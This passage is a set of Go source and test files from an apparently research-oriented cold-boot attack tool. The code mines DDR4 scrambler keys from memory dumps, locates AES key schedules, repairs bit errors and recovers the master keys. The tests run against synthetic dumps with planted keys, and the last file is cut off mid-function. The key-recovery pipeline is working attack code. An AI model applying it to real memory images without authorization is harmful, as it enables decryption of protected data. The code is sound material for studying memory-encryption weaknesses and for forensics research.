// ExtractRemnant recovers the scrambler key of an uncovered block adjacent
// to a verified schedule: once the master is known, the expected plaintext
// at the block is known, so key = stored ^ expected. This is the inverse of
// mining and corresponds to the paper's boundary-block step — pulling the
// remaining key bytes out of the blocks at the edges of the located table.
func ExtractRemnant(dump []byte, master []byte, tableStart int, blockIdx int, v aes.Variant) []byte {
	schedule := aes.ExpandKeyBytes(master)
	blockStart := blockIdx * BlockBytes
	key := make([]byte, BlockBytes)
	known := false
	for i := 0; i < BlockBytes; i++ {
		p := blockStart + i - tableStart
		if p >= 0 && p < len(schedule) {
			key[i] = dump[blockStart+i] ^ schedule[p]
			known = true
		}
	}
	if !known {
		return nil
	}
	return key
}
