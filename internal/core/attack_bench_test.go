package core

import (
	"testing"

	"coldboot/internal/aes"
	"coldboot/internal/scramble"
	"coldboot/internal/workload"
)

func BenchmarkAttackDump2MiB(b *testing.B) {
	plain := make([]byte, 2<<20)
	if err := workload.Fill(plain, 7, workload.LightSystem); err != nil {
		b.Fatal(err)
	}
	planted := testMaster(6, 32)
	copy(plain[4096*64+128:], aes.ExpandKeyBytes(planted))
	dump := make([]byte, len(plain))
	scramble.NewSkylakeDDR4(11).Scramble(dump, plain, 0)
	b.ReportAllocs()
	b.SetBytes(int64(len(dump)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res, err := Attack(dump, Config{})
		if err != nil {
			b.Fatal(err)
		}
		if len(res.Keys) == 0 {
			b.Fatal("key not recovered")
		}
	}
}
