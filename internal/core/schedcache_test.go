package core

import (
	"bytes"
	"sync"
	"testing"

	"coldboot/internal/aes"
)

// TestScheduleCacheMatchesExpand pins the cache to the plain expansion for
// every variant and both entry paths (Schedule computes-and-stores, Insert
// promotes a scratch expansion).
func TestScheduleCacheMatchesExpand(t *testing.T) {
	c := NewScheduleCache(0)
	for _, v := range []aes.Variant{aes.AES128, aes.AES192, aes.AES256} {
		master := testMaster(int64(v.KeyBytes()), v.KeyBytes())
		want := aes.ExpandKeyBytes(master)
		if got := c.Schedule(master); !bytes.Equal(got, want) {
			t.Fatalf("%v: Schedule mismatch", v)
		}
		// Second sight must hit.
		if got, ok := c.Lookup(master); !ok || !bytes.Equal(got, want) {
			t.Fatalf("%v: Lookup after Schedule: ok=%v", v, ok)
		}
	}

	master := testMaster(99, 32)
	if _, ok := c.Lookup(master); ok {
		t.Fatal("Lookup hit for never-inserted master")
	}
	scratch := aes.ExpandKeyBytes(master)
	c.Insert(master, scratch)
	// Insert must copy: clobbering the caller's buffer must not reach the
	// cached bytes (the hunt reuses its scratch immediately after Insert).
	want := append([]byte{}, scratch...)
	for i := range scratch {
		scratch[i] = 0
	}
	if got, ok := c.Lookup(master); !ok || !bytes.Equal(got, want) {
		t.Fatal("Insert did not copy the schedule")
	}
}

// TestScheduleCacheNilReceiver pins the documented degraded mode: a nil
// cache expands on every Schedule call and never hits.
func TestScheduleCacheNilReceiver(t *testing.T) {
	var c *ScheduleCache
	master := testMaster(7, 32)
	if got := c.Schedule(master); !bytes.Equal(got, aes.ExpandKeyBytes(master)) {
		t.Fatal("nil cache Schedule mismatch")
	}
	if _, ok := c.Lookup(master); ok {
		t.Fatal("nil cache Lookup hit")
	}
	c.Insert(master, aes.ExpandKeyBytes(master)) // must not panic
	if c.Len() != 0 {
		t.Fatal("nil cache Len != 0")
	}
}

// TestScheduleCacheBound pins clear-on-full: the cache never exceeds its
// bound, and entries remain correct across wholesale clears.
func TestScheduleCacheBound(t *testing.T) {
	const max = 8
	c := NewScheduleCache(max)
	for i := 0; i < 10*max; i++ {
		master := testMaster(int64(1000+i), 32)
		got := c.Schedule(master)
		if !bytes.Equal(got, aes.ExpandKeyBytes(master)) {
			t.Fatalf("entry %d mismatch", i)
		}
		if n := c.Len(); n > max {
			t.Fatalf("cache grew to %d entries (bound %d)", n, max)
		}
	}
}

// TestScheduleCacheConcurrent hammers one small cache from many goroutines
// with overlapping masters, mixing all three entry points so -race can see
// every lock interleaving, including clear-on-full. Every returned schedule
// must be correct regardless of interleaving — the cache's read-only
// contract means a racing clear can only cause recomputation, never
// corruption.
func TestScheduleCacheConcurrent(t *testing.T) {
	const (
		workers = 8
		rounds  = 400
		masters = 24
	)
	c := NewScheduleCache(16) // smaller than the working set: forces clears
	want := make([][]byte, masters)
	keys := make([][]byte, masters)
	for i := range keys {
		keys[i] = testMaster(int64(2000+i), 32)
		want[i] = aes.ExpandKeyBytes(keys[i])
	}
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for r := 0; r < rounds; r++ {
				i := (w*rounds + r) % masters
				switch r % 3 {
				case 0:
					if got := c.Schedule(keys[i]); !bytes.Equal(got, want[i]) {
						t.Errorf("worker %d: Schedule(%d) corrupt", w, i)
						return
					}
				case 1:
					if got, ok := c.Lookup(keys[i]); ok && !bytes.Equal(got, want[i]) {
						t.Errorf("worker %d: Lookup(%d) corrupt", w, i)
						return
					}
				case 2:
					c.Insert(keys[i], want[i])
				}
			}
		}(w)
	}
	wg.Wait()
}
