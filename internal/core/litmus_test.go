package core

import (
	"math/rand"
	"testing"

	"coldboot/internal/scramble"
)

func TestKeyLitmusZeroOnRealKeys(t *testing.T) {
	s := scramble.NewSkylakeDDR4(0xABCD)
	for idx := uint64(0); idx < 4096; idx++ {
		k := s.KeyAt(idx * BlockBytes)
		if d := KeyLitmusDistance(k); d != 0 {
			t.Fatalf("key %d litmus distance %d, want 0", idx, d)
		}
	}
}

func TestKeyLitmusZeroBlockPasses(t *testing.T) {
	// All-zero blocks trivially satisfy the invariants: in a scrambled dump
	// a stored zero block means data == key, a degenerate but harmless case.
	if !PassesKeyLitmus(make([]byte, 64), 0) {
		t.Error("zero block failed litmus")
	}
}

func TestKeyLitmusXORofKeysPasses(t *testing.T) {
	a := scramble.NewSkylakeDDR4(1)
	b := scramble.NewSkylakeDDR4(2)
	for idx := uint64(0); idx < 512; idx++ {
		ka := a.KeyAt(idx * BlockBytes)
		kb := b.KeyAt(idx * BlockBytes)
		x := make([]byte, 64)
		for i := range x {
			x[i] = ka[i] ^ kb[i]
		}
		if !PassesKeyLitmus(x, 0) {
			t.Fatalf("key XOR at index %d failed litmus", idx)
		}
	}
}

func TestKeyLitmusToleratesFlips(t *testing.T) {
	s := scramble.NewSkylakeDDR4(3)
	k := s.KeyAt(0)
	rng := rand.New(rand.NewSource(1))
	// Flip 3 bits: each flip disturbs 1-3 equations, so distance is 1..9.
	for i := 0; i < 3; i++ {
		bit := rng.Intn(512)
		k[bit/8] ^= 1 << uint(bit%8)
	}
	if d := KeyLitmusDistance(k); d == 0 || d > 9 {
		t.Errorf("3-flip key distance = %d, want 1..9", d)
	}
	if !PassesKeyLitmus(k, 9) {
		t.Error("3-flip key rejected at tolerance 9")
	}
	// Two flips always stay within the default tolerance.
	k2 := s.KeyAt(64)
	k2[0] ^= 1
	k2[40] ^= 0x10
	if !PassesKeyLitmus(k2, DefaultLitmusTolerance) {
		t.Error("2-flip key rejected at default tolerance")
	}
}

func TestKeyLitmusRejectsRandom(t *testing.T) {
	rng := rand.New(rand.NewSource(2))
	block := make([]byte, 64)
	fails := 0
	const trials = 10000
	for i := 0; i < trials; i++ {
		rng.Read(block)
		if !PassesKeyLitmus(block, DefaultLitmusTolerance) {
			fails++
		}
	}
	if fails < trials-1 {
		t.Errorf("%d/%d random blocks passed litmus", trials-fails, trials)
	}
}

func TestKeyLitmusRejectsText(t *testing.T) {
	block := []byte("The quick brown fox jumps over the lazy dog, repeatedly dog")
	block = append(block, []byte("dog!")...)
	if PassesKeyLitmus(block[:64], DefaultLitmusTolerance) {
		t.Error("ASCII text passed the key litmus test")
	}
}

func TestKeyLitmusPanicsOnWrongSize(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("expected panic")
		}
	}()
	KeyLitmusDistance(make([]byte, 63))
}

func TestKeyLitmusDistanceSymmetricInGroups(t *testing.T) {
	// Corrupting group g only affects that group's equations: distance from
	// a single flipped bit is at most 2 (one bit can appear in at most two
	// of the four equations... each word participates in 2 equations).
	s := scramble.NewSkylakeDDR4(4)
	for bit := 0; bit < 512; bit += 17 {
		k := s.KeyAt(64)
		k[bit/8] ^= 1 << uint(bit%8)
		if d := KeyLitmusDistance(k); d < 1 || d > 3 {
			t.Errorf("single flip at bit %d gives distance %d", bit, d)
		}
	}
}

func BenchmarkKeyLitmus(b *testing.B) {
	s := scramble.NewSkylakeDDR4(5)
	k := s.KeyAt(0)
	b.SetBytes(64)
	for i := 0; i < b.N; i++ {
		KeyLitmusDistance(k)
	}
}
