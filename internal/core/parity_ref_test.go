package core

import (
	"sort"

	"coldboot/internal/aes"
	"coldboot/internal/bitutil"
)

// This file is a frozen copy of the pre-PR-6 (seed) per-allocation
// implementations of the mine/verify/repair/refine pipeline. The pooled and
// cached production code must stay byte-identical to these references on
// every fixture — parity_test.go runs the comparisons. Do not "fix" or
// optimize anything here: the whole point is that it does not change.

// refMineKeys is the seed miner: exact grouping through a map keyed by block
// content, quadratic near-duplicate merging, eager per-canonical vote
// tables.
func refMineKeys(dump []byte, opt MineOptions) *MineResult {
	opt = opt.withDefaults()
	limit := len(dump) / BlockBytes
	if opt.MaxBytes > 0 && opt.MaxBytes/BlockBytes < limit {
		limit = opt.MaxBytes / BlockBytes
	}
	res := &MineResult{}
	exact := make(map[string][]int)
	for b := 0; b < limit; b++ {
		block := dump[b*BlockBytes : (b+1)*BlockBytes]
		res.BlocksScanned++
		if !PassesKeyLitmus(block, opt.Tolerance) {
			continue
		}
		res.BlocksPassed++
		exact[string(block)] = append(exact[string(block)], b)
	}

	type group struct {
		rep       []byte
		positions []int
	}
	groups := make([]group, 0, len(exact))
	for k, pos := range exact {
		groups = append(groups, group{rep: []byte(k), positions: pos})
	}
	sort.Slice(groups, func(i, j int) bool {
		if len(groups[i].positions) != len(groups[j].positions) {
			return len(groups[i].positions) > len(groups[j].positions)
		}
		return string(groups[i].rep) < string(groups[j].rep)
	})

	type canonical struct {
		votes     [BlockBytes * 8]int
		total     int
		positions []int
		rep       []byte
	}
	var canon []*canonical
	for _, g := range groups {
		var target *canonical
		for _, c := range canon {
			if bitutil.NearEqual(c.rep, g.rep, opt.MergeDistance) {
				target = c
				break
			}
		}
		if target == nil {
			target = &canonical{rep: append([]byte{}, g.rep...)}
			canon = append(canon, target)
		}
		n := len(g.positions)
		for bit := 0; bit < BlockBytes*8; bit++ {
			if g.rep[bit/8]&(1<<uint(bit%8)) != 0 {
				target.votes[bit] += n
			}
		}
		target.total += n
		target.positions = append(target.positions, g.positions...)
	}

	res.Keys = nil
	for _, c := range canon {
		if c.total < opt.MinCount {
			continue
		}
		key := make([]byte, BlockBytes)
		for bit := 0; bit < BlockBytes*8; bit++ {
			if 2*c.votes[bit] > c.total {
				key[bit/8] |= 1 << uint(bit%8)
			}
		}
		sort.Ints(c.positions)
		res.Keys = append(res.Keys, MinedKey{Key: key, Count: c.total, Positions: c.positions})
	}
	sort.Slice(res.Keys, func(i, j int) bool {
		if res.Keys[i].Count != res.Keys[j].Count {
			return res.Keys[i].Count > res.Keys[j].Count
		}
		return string(res.Keys[i].Key) < string(res.Keys[j].Key)
	})
	return res
}

// refResidueDirectory is the seed stride directory: a fresh [][]byte per
// lookup, built from KeysByResidue.
func refResidueDirectory(mine *MineResult, stride int) KeyDirectory {
	byRes := mine.KeysByResidue(stride)
	return func(blockIdx int) [][]byte {
		mk := byRes[blockIdx%stride]
		keys := make([][]byte, len(mk))
		for i, k := range mk {
			keys[i] = k.Key
		}
		return keys
	}
}

// refCoverage is the seed coverage computation (map-based, via
// KeysByResidue).
func refCoverage(r *MineResult, stride int) float64 {
	if stride <= 0 {
		return 0
	}
	return float64(len(r.KeysByResidue(stride))) / float64(stride)
}

// refAESLitmus is the seed schedule-window scan: no first-word class
// prefilter, a fresh word conversion and hit slice per call.
func refAESLitmus(block []byte, v aes.Variant, tolerance int) []ScheduleHit {
	if len(block) != BlockBytes {
		panic("core: AES litmus block must be 64 bytes")
	}
	var hits []ScheduleHit
	words := aes.BytesToWords(block)
	nk := v.Nk()
	total := v.ScheduleWords()
	const blockWords = BlockBytes / 4
	for j := 0; j+nk+MinVerifyWords <= blockWords; j++ {
		maxVerify := blockWords - j - nk
		for a := 0; a+nk+MinVerifyWords <= total; a++ {
			verify := total - a - nk
			if verify > maxVerify {
				verify = maxVerify
			}
			d, ok := predictAndCompare(words, j, a, nk, verify, tolerance)
			if ok {
				hits = append(hits, ScheduleHit{
					WordOffset:    j,
					ScheduleIndex: a,
					VerifiedWords: verify,
					Distance:      d,
				})
			}
		}
	}
	return hits
}

// refMasterFromHit is the seed master derivation (allocating word
// conversion and backward extension per call).
func refMasterFromHit(block []byte, hit ScheduleHit, v aes.Variant) []byte {
	words := aes.BytesToWords(block)
	nk := v.Nk()
	window := words[hit.WordOffset : hit.WordOffset+nk]
	return aes.RecoverMasterKey(window, hit.ScheduleIndex, v)
}

// refVerifySchedule is the seed verifier: a fresh full expansion per call.
func refVerifySchedule(dump []byte, keys KeyDirectory, master []byte, tableStart int, v aes.Variant) float64 {
	schedule := aes.ExpandKeyBytes(master)
	if tableStart < 0 || tableStart+len(schedule) > len(dump) {
		return 0
	}
	totalBits := len(schedule) * 8
	mismatched := 0
	pos := 0
	for pos < len(schedule) {
		addr := tableStart + pos
		blockIdx := addr / BlockBytes
		inOff := addr % BlockBytes
		chunk := BlockBytes - inOff
		if chunk > len(schedule)-pos {
			chunk = len(schedule) - pos
		}
		stored := dump[blockIdx*BlockBytes+inOff : blockIdx*BlockBytes+inOff+chunk]
		want := schedule[pos : pos+chunk]
		best := chunk * 8
		for _, key := range keys(blockIdx) {
			d := xorDistance(stored, key[inOff:inOff+chunk], want)
			if d < best {
				best = d
			}
		}
		mismatched += best
		pos += chunk
	}
	return 1 - float64(mismatched)/float64(totalBits)
}

// refWindowDegenerate is the seed degeneracy filter (map-based distinct
// word count).
func refWindowDegenerate(block []byte, hit ScheduleHit, nk int) bool {
	win := block[4*hit.WordOffset : 4*hit.WordOffset+4*nk]
	words := aes.BytesToWords(win)
	distinct := make(map[uint32]bool, len(words))
	for _, w := range words {
		distinct[w] = true
	}
	if len(distinct) <= nk/2 {
		return true
	}
	weight := bitutil.HammingWeight(win)
	total := len(win) * 8
	return weight < total/8 || weight > total*7/8
}

// refRepairWindow is the seed flip repair: fresh work buffer, allocating
// closures, allocating master derivation per candidate.
func refRepairWindow(dump []byte, keys KeyDirectory, block []byte, blockIdx int, hit ScheduleHit, v aes.Variant, maxFlips int, minScore float64) ([]byte, float64) {
	nk := v.Nk()
	tableStart := hit.TableStart(blockIdx)
	work := make([]byte, len(block))
	copy(work, block)

	tryMaster := func() ([]byte, float64) {
		words := aes.BytesToWords(work[4*hit.WordOffset : 4*hit.WordOffset+4*nk])
		master := aes.RecoverMasterKey(words, hit.ScheduleIndex, v)
		return master, refVerifySchedule(dump, keys, master, tableStart, v)
	}
	consistent := func() bool {
		words := aes.BytesToWords(work)
		_, ok := predictAndCompare(words, hit.WordOffset, hit.ScheduleIndex, nk,
			hit.VerifiedWords, DefaultAESTolerance)
		return ok
	}

	bestMaster, bestScore := tryMaster()
	winLo := 4 * hit.WordOffset * 8
	winHi := winLo + 4*nk*8
	flip := func(bit int) { work[bit/8] ^= 1 << uint(bit%8) }
	if maxFlips >= 1 {
		for b1 := winLo; b1 < winHi; b1++ {
			flip(b1)
			if consistent() {
				if m, s := tryMaster(); s > bestScore {
					bestMaster, bestScore = m, s
				}
			}
			if maxFlips >= 2 && bestScore < minScore {
				for b2 := b1 + 1; b2 < winHi; b2++ {
					flip(b2)
					if consistent() {
						if m, s := tryMaster(); s > bestScore {
							bestMaster, bestScore = m, s
						}
					}
					flip(b2)
					if bestScore >= minScore {
						break
					}
				}
			}
			flip(b1)
			if bestScore >= minScore {
				break
			}
		}
	}
	return bestMaster, bestScore
}

// refRepairWindowGround is the seed ground-state repair.
func refRepairWindowGround(dump, groundDump []byte, keys KeyDirectory, block []byte, blockIdx int, hit ScheduleHit, v aes.Variant, maxFlips int, minScore float64) ([]byte, float64) {
	const verifyBudget = 1500
	nk := v.Nk()
	tableStart := hit.TableStart(blockIdx)
	mask := SuspectMask(dump, groundDump, blockIdx)

	winLo := 4 * hit.WordOffset * 8
	winHi := winLo + 4*nk*8
	var suspects []int
	for b := winLo; b < winHi; b++ {
		if mask[b/8]&(1<<uint(b%8)) != 0 {
			suspects = append(suspects, b)
		}
	}

	work := make([]byte, len(block))
	copy(work, block)
	flip := func(bit int) { work[bit/8] ^= 1 << uint(bit%8) }
	tryMaster := func() ([]byte, float64) {
		words := aes.BytesToWords(work[4*hit.WordOffset : 4*hit.WordOffset+4*nk])
		master := aes.RecoverMasterKey(words, hit.ScheduleIndex, v)
		return master, refVerifySchedule(dump, keys, master, tableStart, v)
	}
	consistent := func() bool {
		words := aes.BytesToWords(work)
		_, ok := predictAndCompare(words, hit.WordOffset, hit.ScheduleIndex, nk,
			hit.VerifiedWords, DefaultAESTolerance)
		return ok
	}

	bestMaster, bestScore := tryMaster()
	if bestScore >= minScore || maxFlips < 1 {
		return bestMaster, bestScore
	}
	budget := verifyBudget
	var search func(startIdx, remaining int)
	search = func(startIdx, remaining int) {
		if bestScore >= minScore || budget <= 0 {
			return
		}
		for i := startIdx; i < len(suspects); i++ {
			flip(suspects[i])
			if consistent() {
				budget--
				if m, s := tryMaster(); s > bestScore {
					bestMaster, bestScore = m, s
					if bestScore >= minScore {
						flip(suspects[i])
						return
					}
				}
			}
			if remaining > 1 {
				search(i+1, remaining-1)
			}
			flip(suspects[i])
			if bestScore >= minScore || budget <= 0 {
				return
			}
		}
	}
	for depth := 1; depth <= maxFlips && bestScore < minScore && budget > 0; depth++ {
		search(0, depth)
	}
	return bestMaster, bestScore
}

// refObservedScheduleWords is the seed observed-schedule reconstruction.
func refObservedScheduleWords(dump []byte, keys KeyDirectory, reference []byte, tableStart int) []uint32 {
	out := make([]byte, len(reference))
	pos := 0
	for pos < len(reference) {
		addr := tableStart + pos
		blockIdx := addr / BlockBytes
		inOff := addr % BlockBytes
		chunk := BlockBytes - inOff
		if chunk > len(reference)-pos {
			chunk = len(reference) - pos
		}
		stored := dump[blockIdx*BlockBytes+inOff : blockIdx*BlockBytes+inOff+chunk]
		want := reference[pos : pos+chunk]
		var bestKey []byte
		bestD := 1 << 30
		for _, key := range keys(blockIdx) {
			if d := xorDistance(stored, key[inOff:inOff+chunk], want); d < bestD {
				bestD, bestKey = d, key
			}
		}
		for i := 0; i < chunk; i++ {
			if bestKey != nil {
				out[pos+i] = stored[i] ^ bestKey[inOff+i]
			} else {
				out[pos+i] = want[i]
			}
		}
		pos += chunk
	}
	return aes.BytesToWords(out)
}

// refRefineMaster is the seed schedule-redundancy error correction.
func refRefineMaster(dump []byte, keys KeyDirectory, master []byte, tableStart int, v aes.Variant) ([]byte, float64) {
	best := append([]byte{}, master...)
	bestScore := refVerifySchedule(dump, keys, best, tableStart, v)
	if bestScore == 0 {
		return best, bestScore
	}
	nk := v.Nk()
	observed := refObservedScheduleWords(dump, keys, aes.ExpandKeyBytes(best), tableStart)
	for s := 0; s+nk <= len(observed); s++ {
		cand := aes.RecoverMasterKey(observed[s:s+nk], s, v)
		if sc := refVerifySchedule(dump, keys, cand, tableStart, v); sc > bestScore {
			best, bestScore = cand, sc
		}
	}
	for iter := 0; iter < 4; iter++ {
		sched := aes.ExpandKey(best)
		observed := refObservedScheduleWords(dump, keys, aes.WordsToBytes(sched), tableStart)
		improved := false
		for c := 0; c < nk; c++ {
			var votes [32]int
			count := 0
			for i := c; i < len(sched); i += nk {
				r := sched[i] ^ observed[i]
				for b := 0; b < 32; b++ {
					if r>>uint(b)&1 == 1 {
						votes[b]++
					}
				}
				count++
			}
			var fix uint32
			for b := 0; b < 32; b++ {
				if votes[b]*2 > count {
					fix |= 1 << uint(b)
				}
			}
			if fix == 0 {
				continue
			}
			cand := append([]byte{}, best...)
			w := aes.BytesToWords(cand)
			w[c] ^= fix
			cand = aes.WordsToBytes(w)
			if s := refVerifySchedule(dump, keys, cand, tableStart, v); s > bestScore {
				best, bestScore = cand, s
				improved = true
			}
		}
		if !improved {
			break
		}
	}
	return best, bestScore
}

// refAttack is the seed attack pipeline, run serially: mine, directory,
// hunt (with the seed's per-candidate allocation behavior), assemble. It is
// the output oracle for the pooled pipeline with Workers: 1.
func refAttack(dump []byte, cfg Config) *Result {
	cfg = cfg.withDefaults()
	res := &Result{BlocksScanned: len(dump) / BlockBytes}

	mine := cfg.Mine
	if mine == nil {
		mine = refMineKeys(dump, MineOptions{
			Tolerance:     cfg.LitmusTolerance,
			MergeDistance: cfg.MergeDistance,
			MaxBytes:      cfg.MineMaxBytes,
		})
	}
	res.Mine = mine

	directory := cfg.KeysForBlock
	if directory == nil {
		res.Stride = mine.InferStride()
		if cfg.Exhaustive || res.Stride == 0 {
			directory = AllKeysDirectory(mine)
		} else {
			res.Coverage = refCoverage(mine, res.Stride)
			directory = refResidueDirectory(mine, res.Stride)
		}
	}
	skip := make(map[int]bool)
	for _, k := range mine.Keys {
		for _, p := range k.Positions {
			skip[p] = true
		}
	}

	found := make(map[string]*FoundKey)
	record := func(master []byte, start int, score float64, v aes.Variant) {
		k := string(master)
		if f, ok := found[k]; ok {
			f.Anchors++
			if score > f.Score {
				f.Score = score
				f.TableStart = start
			}
			return
		}
		found[k] = &FoundKey{
			Master:     append([]byte{}, master...),
			Variant:    v,
			TableStart: start,
			Score:      score,
			Anchors:    1,
		}
	}

	nBlocks := len(dump) / BlockBytes
	nk := cfg.Variant.Nk()
	descrambled := make([]byte, BlockBytes)
	for b := 0; b < nBlocks; b++ {
		if skip[b] {
			continue
		}
		stored := dump[b*BlockBytes : (b+1)*BlockBytes]
		if KeyLitmusDistance(stored) <= zeroBlockSkipDistance {
			continue
		}
		for _, key := range directory(b) {
			res.PairsTested++
			bitutil.XORBlock64(descrambled, stored, key)
			blockHits := refAESLitmus(descrambled, cfg.Variant, cfg.AESTolerance)
			doubleRepairsLeft := 4
			groundRepairsLeft := 4
			for _, hit := range blockHits {
				if refWindowDegenerate(descrambled, hit, nk) {
					continue
				}
				start := hit.TableStart(b)
				if start < 0 || start+cfg.Variant.ScheduleBytes() > len(dump) {
					continue
				}
				master := refMasterFromHit(descrambled, hit, cfg.Variant)
				score := refVerifySchedule(dump, directory, master, start, cfg.Variant)
				if score < cfg.MinVerifyScore && cfg.GroundDump != nil && groundRepairsLeft > 0 {
					groundRepairsLeft--
					master, score = refRepairWindowGround(dump, cfg.GroundDump, directory,
						descrambled, b, hit, cfg.Variant, 3, cfg.MinVerifyScore)
				} else if score < cfg.MinVerifyScore && cfg.RepairFlips > 0 {
					flips := 1
					if cfg.RepairFlips >= 2 && doubleRepairsLeft > 0 {
						doubleRepairsLeft--
						flips = cfg.RepairFlips
					}
					master, score = refRepairWindow(dump, directory, descrambled, b, hit,
						cfg.Variant, flips, cfg.MinVerifyScore)
				}
				if score >= cfg.MinVerifyScore {
					master, score = refRefineMaster(dump, directory, master, start, cfg.Variant)
					record(master, start, score, cfg.Variant)
				}
			}
		}
	}

	// Seed assemble: rank and suppress shift-family aliases.
	candidates := make([]FoundKey, 0, len(found))
	for _, f := range found {
		candidates = append(candidates, *f)
	}
	sort.Slice(candidates, func(i, j int) bool {
		if candidates[i].Score != candidates[j].Score {
			return candidates[i].Score > candidates[j].Score
		}
		if candidates[i].TableStart != candidates[j].TableStart {
			return candidates[i].TableStart < candidates[j].TableStart
		}
		return string(candidates[i].Master) < string(candidates[j].Master)
	})
	schedBytes := cfg.Variant.ScheduleBytes()
	for _, c := range candidates {
		alias := false
		for _, kept := range res.Keys {
			lo, hi := c.TableStart, c.TableStart+schedBytes
			if kept.TableStart > lo {
				lo = kept.TableStart
			}
			if kept.TableStart+schedBytes < hi {
				hi = kept.TableStart + schedBytes
			}
			if hi-lo >= schedBytes/2 {
				alias = true
				break
			}
		}
		if !alias {
			res.Keys = append(res.Keys, c)
		}
	}
	return res
}
