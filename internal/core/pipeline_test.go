package core

import (
	"context"
	"errors"
	"sync"
	"testing"

	"coldboot/internal/obs"
	"coldboot/internal/workload"
)

// huntCancelTracer cancels a context the first time the hunt stage reports
// progress, and records the last progress value seen — the number of blocks
// the scan had processed when it actually stopped.
type huntCancelTracer struct {
	cancel   context.CancelFunc
	mu       sync.Mutex
	cancelAt int64 // progress when we pulled the plug
	lastDone int64 // final progress the stage reported
	total    int64
}

func (h *huntCancelTracer) StageStart(string) obs.StageTimer       { return obs.Nop.StageStart("") }
func (h *huntCancelTracer) StartSpan(string, ...obs.Attr) obs.Span { return obs.Nop.StartSpan("") }
func (h *huntCancelTracer) Count(string, int64)                    {}
func (h *huntCancelTracer) Observe(string, int64)                  {}

func (h *huntCancelTracer) Progress(stage string, done, total int64) {
	if stage != "hunt" {
		return
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.cancelAt == 0 {
		h.cancelAt = done
		h.cancel()
	}
	h.lastDone = done
	h.total = total
}

// TestAttackMidScanCancellation cancels an attack from inside the hunt scan
// and checks it stops within one cancellation chunk of work instead of
// finishing the dump.
func TestAttackMidScanCancellation(t *testing.T) {
	dump := buildAttackDump(t, 1<<20, 41, workload.LightSystem, testMaster(401, 32), 4096*64)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	tr := &huntCancelTracer{cancel: cancel}

	res, err := AttackContext(ctx, dump, Config{Workers: 1, Tracer: tr})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if res == nil {
		t.Fatal("cancelled attack returned no partial result")
	}
	if res.Mine == nil {
		t.Error("partial result lost the completed mine stage")
	}
	nBlocks := int64(len(dump) / BlockBytes)
	if tr.total != nBlocks {
		t.Errorf("hunt progress total = %d, want %d", tr.total, nBlocks)
	}
	// The single worker polls ctx every scanCancelChunkBlocks: after the
	// cancel lands it may finish at most the chunk in flight plus one more
	// before observing ctx.Err().
	limit := tr.cancelAt + 2*scanCancelChunkBlocks
	if tr.lastDone > limit {
		t.Errorf("hunt ran %d blocks past cancellation (stopped at %d, cancelled at %d, limit %d)",
			tr.lastDone-tr.cancelAt, tr.lastDone, tr.cancelAt, limit)
	}
	if tr.lastDone >= nBlocks {
		t.Error("hunt scanned the whole dump despite cancellation")
	}
}

// TestCampaignMidShardCancellation cancels a campaign from inside the first
// shard's hunt scan: the campaign must return promptly with the partial
// merged results and ctx.Err(), not run the remaining shards.
func TestCampaignMidShardCancellation(t *testing.T) {
	dump := buildAttackDump(t, 1<<20, 42, workload.LightSystem, testMaster(402, 32), 4096*64)

	full, err := RunCampaign(context.Background(), dump, CampaignConfig{
		ShardBlocks: 4096, Parallel: 1, Attack: Config{Workers: 1},
	})
	if err != nil {
		t.Fatal(err)
	}

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	tr := &huntCancelTracer{cancel: cancel}
	res, err := RunCampaign(ctx, dump, CampaignConfig{
		ShardBlocks: 4096, Parallel: 1,
		Attack: Config{Workers: 1, Tracer: tr},
	})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if res == nil {
		t.Fatal("cancelled campaign returned no partial result")
	}
	if res.Mine == nil {
		t.Error("partial campaign result lost the global mine")
	}
	if res.PairsTested == 0 {
		t.Error("mid-shard cancellation reported no work, want partial progress")
	}
	if res.PairsTested >= full.PairsTested {
		t.Errorf("cancelled campaign tested %d pairs, full run tested %d — no early stop",
			res.PairsTested, full.PairsTested)
	}
	// Promptness within the shard: the scan stops within one cancellation
	// chunk (plus the chunk in flight) of where the cancel landed.
	limit := tr.cancelAt + 2*scanCancelChunkBlocks
	if tr.lastDone > limit {
		t.Errorf("shard scan ran %d blocks past cancellation (limit %d)", tr.lastDone-tr.cancelAt, limit)
	}
}

// TestCampaignSourceStreamingParity runs the same dump through the resident
// fast path and the streaming BlockSource path and requires identical
// results — the streaming reader must not change what the attack finds.
func TestCampaignSourceStreamingParity(t *testing.T) {
	master := testMaster(403, 32)
	dump := buildAttackDump(t, 1<<20, 43, workload.LightSystem, master, 4096*64+128)

	resident, err := RunCampaign(context.Background(), dump, CampaignConfig{ShardBlocks: 4096})
	if err != nil {
		t.Fatal(err)
	}
	src, err := ReaderAtSource(readerAtOver(dump), int64(len(dump)))
	if err != nil {
		t.Fatal(err)
	}
	streamed, err := RunCampaignSource(context.Background(), src, CampaignConfig{ShardBlocks: 4096})
	if err != nil {
		t.Fatal(err)
	}
	if len(resident.Keys) == 0 {
		t.Fatal("resident campaign found no keys")
	}
	if len(streamed.Keys) != len(resident.Keys) {
		t.Fatalf("streamed found %d keys, resident %d", len(streamed.Keys), len(resident.Keys))
	}
	for i := range resident.Keys {
		if string(streamed.Keys[i].Master) != string(resident.Keys[i].Master) ||
			streamed.Keys[i].TableStart != resident.Keys[i].TableStart ||
			streamed.Keys[i].Score != resident.Keys[i].Score {
			t.Errorf("key %d differs: streamed %+v, resident %+v", i, streamed.Keys[i], resident.Keys[i])
		}
	}
	if streamed.PairsTested != resident.PairsTested {
		t.Errorf("pairs tested: streamed %d, resident %d", streamed.PairsTested, resident.PairsTested)
	}
}

// readerAtOver adapts a byte slice to io.ReaderAt without exposing the
// sliceSource fast path, forcing the true streaming code path.
type sliceReaderAt []byte

func readerAtOver(b []byte) sliceReaderAt { return sliceReaderAt(b) }

func (s sliceReaderAt) ReadAt(p []byte, off int64) (int, error) {
	n := copy(p, s[off:])
	return n, nil
}

// TestAttackStagesTraced checks a full attack emits one timing per pipeline
// stage and the headline candidate counters (the -trace contract).
func TestAttackStagesTraced(t *testing.T) {
